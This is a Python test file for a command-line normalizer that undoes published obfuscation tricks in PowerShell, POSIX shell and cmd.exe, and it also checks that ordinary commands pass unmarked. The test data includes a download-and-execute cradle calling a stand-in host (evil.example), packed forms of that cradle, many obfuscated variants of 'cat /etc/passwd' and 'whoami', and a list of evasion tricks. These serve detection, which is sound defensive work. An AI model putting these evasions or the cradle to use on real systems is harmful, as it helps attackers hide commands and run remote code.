"""Disguises of command lines, as published, and ordinary lines that must stay as they are.

After Invoke-Obfuscation and DOSfuscation (Daniel Bohannon, 2016 and 2018), Bashfuscator, and lists
of ways around filters of web shells.
"""

import base64
import gzip
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from buckler.normalize import get_normalizer
from tests.support.growth import assert_linear

COMMAND = get_normalizer("command-v2")


def fields(text: str | bytes, max_bytes: int = 4096) -> list[str]:
    """Command, payloads, image, parent, user, marks."""
    return COMMAND.normalize(text, max_bytes).decode("utf-8", "replace").split("\x1f")


def packed(data: bytes) -> str:
    return base64.b64encode(data).decode()


def deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def numbers(text: str, between: str, base: str, key: int = 0) -> str:
    return between.join(format(ord(c) ^ key, base) for c in text)


SCRIPT = b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"
LIST = "whoami /all"


POWERSHELL = [
    ("('i','e','x') -join ''", "iex"),
    ("-join('i','e','x')", "iex"),
    ("& ('i','e','x' -join '')", "& (iex)"),
    ("[string]::join('',('i','e','x'))", "iex"),
    ("[string]::concat('i','e','x')", "iex"),
    ("-join([char]105,[char]101,[char]120)", "iex"),
    ("('whXXoaXXmi' -replace 'XX','')", "(whoami)"),
    ("'whXXoami'.replace('XX','')", "whoami"),
    ("('whXXoaYYmi' -replace 'XX','' -creplace 'YY','')", "(whoami)"),
    ("('whXXoami').RePlaCE(([char]88+[char]88),'')", "whoami"),
    ("('wXhXoXaXmXi' -split 'X' -join '')", "(whoami)"),
    ("('imaohw'[-1..-6] -join '')", "(whoami)"),
    ("$s='imaohw';-join $s[-1..-6]", "$s=imaohw;whoami"),
    ("$a='who';$b='ami';iex ($a+$b)", "$a=who;$b=ami;iex (whoami)"),
    ("${a}='who';${b}='ami';& ($a+$b)", "${a}=who;${b}=ami;& (whoami)"),
    ("& (gcm i*-e*n) x", "& (gcm invoke-expression) x"),
    ("&(gal i?x)", "&(gal iex)"),
    ("'who'+'ami'", "whoami"),
    ("&('i'+'ex') $x", "&(iex) $x"),
]


@pytest.mark.parametrize(
    ("text", "command"),
    [
        # POSIX shells
        ("wh\\oa\\mi", "whoami"),
        ("w\\h\\o\\a\\m\\i", "whoami"),
        ('bash -c "w\\ho\\am\\i"', "bash -c whoami"),
        ("/b\\in/ca\\t /et\\c/pa\\sswd", "/bin/cat /etc/passwd"),
        ("who$@ami", "whoami"),
        ("wh$*oami", "whoami"),
        ("wh$1oami", "whoami"),
        ("w${x}hoami", "whoami"),
        ("who$()ami", "whoami"),
        ("who``ami", "whoami"),
        ("cat$IFS/etc/passwd", "cat /etc/passwd"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
        ("{cat,/etc/passwd}", "cat /etc/passwd"),
        ("${PATH:0:1}bin${HOME:0:1}cat", "/bin/cat"),
        ("$'\\167\\150\\157\\141\\155\\151'", "whoami"),
        ("$'\\x77\\x68\\x6f\\x61\\x6d\\x69'", "whoami"),
        ("printf '\\167\\150\\157'", "printf who"),
        ("a=who;b=ami;$a$b", "a=who;b=ami;whoami"),
        ("a=w;${a}hoami", "a=w;whoami"),
        ("/b?n/c?t /et?/pass??", "/bin/cat /etc/passwd"),
        ("/bin/c[a]t /etc/passw[d]", "/bin/cat /etc/passwd"),
        ("cat /etc/pass*", "cat /etc/passwd"),
        # cmd.exe
        ('cmd /c "set x=whXXoami&&call %x:XX=%"', "cmd /c set x=whxxoami&&call whoami"),
        ("cmd.exe,/c,whoami", "cmd.exe /c whoami"),
        (",;,cmd.exe,;,/c,;,whoami", "cmd.exe /c whoami"),
        *POWERSHELL,
    ],
)
def test_published_disguises_are_undone(text, command):
    assert fields(text)[0].strip("()") == command.strip("()")
    assert fields(text)[5]  # and a mark says so


@pytest.mark.parametrize(
    ("outer", "inner"), [('"', "'"), ('"', '\\"'), ("'", '"')], ids=["double", "escaped", "single"]
)
@pytest.mark.parametrize(("text", "command"), [case for case in POWERSHELL if "'" in case[0]])
def test_they_are_undone_in_a_quoted_argument(text, command, outer, inner):
    read = fields(f"powershell -c {outer}{text.replace(chr(39), inner)}{outer} x")
    assert read[0].replace("(", "").replace(")", "") == (
        f"powershell -c {command} x".replace("(", "").replace(")", "")
    )
    assert read[5]


@pytest.mark.parametrize(
    ("text", "payload"),
    [
        ("echo imaohw | rev | sh", "whoami"),
        ("rev<<<'imaohw' | sh", "whoami"),
        ('x = StrReverse("imaohw")', "whoami"),
        ("exec('imaohw'[::-1])", "whoami"),
        ("$a='imaohw'.ToCharArray();[array]::Reverse($a);-join $a", "whoami"),
        ("bash<<<$(base64 -d<<<d2hvYW1pIC9hbGw=)", LIST),
        (
            f"GzipStream FromBase64String('{packed(gzip.compress(SCRIPT))}'",
            "downloadstring",
        ),
        (f"DeflateStream FromBase64String('{packed(deflate(SCRIPT))}'", "downloadstring"),
        (f"zlib.decompress(b64decode('{packed(zlib.compress(SCRIPT))}'", "downloadstring"),
        (f"[char[]]({numbers(LIST, ',', 'd', 35)})|%{{[char]($_ -bxor 0x23)}}", LIST),
        (f"'{numbers(LIST, 'x', 'x')}' -split 'x'|%{{[char]([convert]::toint16($_,16))}}", LIST),
        (f"('{numbers(LIST, '~', 'o')}'-split'~'|%{{[char][convert]::toint16($_,8)}})", LIST),
        (f"('{numbers(LIST, ' ', 'b')}'.split(' ')|%{{[char][convert]::toint16($_,2)}})", LIST),
        (f"'{numbers(LIST, '~', 'd')}'.Split('~')|%{{[char][int]$_}}", LIST),
        (f"String.fromCharCode({numbers(LIST, ',', 'd')})", LIST),
    ],
)
def test_published_payloads_are_decoded(text, payload):
    assert payload in fields(text)[1]


@pytest.mark.parametrize(
    "text",
    [
        "nmap -p 80,88,110,111,119,106 10.0.0.5",
        "taskset -c 32,33,34,35,36,37,38 ./app",
        "convert -crop 100,100,101,102,103,104 a.png",
        "tools\\bin\\run.exe \\\\srv\\share\\cat.txt",
        "c:\\101\\102\\who\\id.exe",
        "cp lib${NAME}.so $HOME/bin; echo $IFSX",
        "find /etc/*.conf -name '*.t?gz$' -exec rm {} \\;",
        "ls /dev/sd? /tmp/a[0-9] /etc/cron*",
        "$x = Get-Item; $x.Name -replace '[^a-z]+','_'",
        "$list -join ','",
        "Get-Content a.txt | ForEach-Object { $_.Split('=')[1] }",
        "sed 's/^/./' | column -s$'\\t' -t",
        "make CC=gcc; echo $CC",
        "curl http://a.example/?a=1,2,3;b=4",
        "x",
        'awk \'{print $1 "-" $2, ("a", "b")}\' log.txt',
    ],
)
def test_ordinary_lines_have_no_mark(text):
    assert set(fields(text)[5].split()) <= {"variable"}
    assert fields(text)[1] == ""


TRICKS = [
    "'i','e' ", "-join ", "('ab'-replace 'b','", "$a", "$a='x';", "a=b;", "[string]::join(", "(((",
    "[char]65+", "%os:a=b%", "set os=aaaa&&", "80,", "9~9~", "split char ", "/b?n/c?t ", "{cat,",
    "$IFS", "\\167", "$'\\x41", " | rev ", "'abcdef'", "[::-1]", "[-1..-9]", "[0..99999999]",
    "w\\h", "$@", "gcm *", "H4sIAAAAAAAC/yvPyE/MzVTQT8zJAQBbk3kUCwAAAA==", "deflate ",
    "toint16($_,16) ", "-bxor 0x23 ", ",;,", ",", ";", "${PATH:0:1}", "'\"",
]  # fmt: skip


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(TRICKS) | st.text(max_size=6), max_size=25).map("".join))
def test_any_mixture_of_tricks_has_a_form_that_fits(text):
    for max_bytes in (1, 60, 4096):
        assert len(COMMAND.normalize(text, max_bytes)) <= max_bytes


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_without_end_is_undone_in_linear_time(trick):
    def work(text: str) -> None:
        for _ in range(100):  # the kernel reads no more than 16 kB, which end soon in any case
            COMMAND.normalize(text, 4096)

    assert_linear(work, trick, 16_384)


@settings(max_examples=150)
@given(st.binary(max_size=300), st.integers(0, 300), st.integers(0, 255))
def test_damaged_packed_payloads_are_a_payload_or_none(data, at, value):
    whole = bytearray(gzip.compress(data or b"x"))
    whole[at % len(whole)] = value
    assert len(fields(f"x {packed(bytes(whole))}")) == 6


@settings(max_examples=100)
@given(st.text("abcdefghij klmnop/-.", min_size=30, max_size=2000))
def test_what_is_packed_is_unpacked(text):
    shown = fields(f"deflate {packed(deflate(text.encode()))}")
    assert shown[1][:200] == fields(text)[0][:200] or "blob" in shown[0] or len(shown[0]) < 40
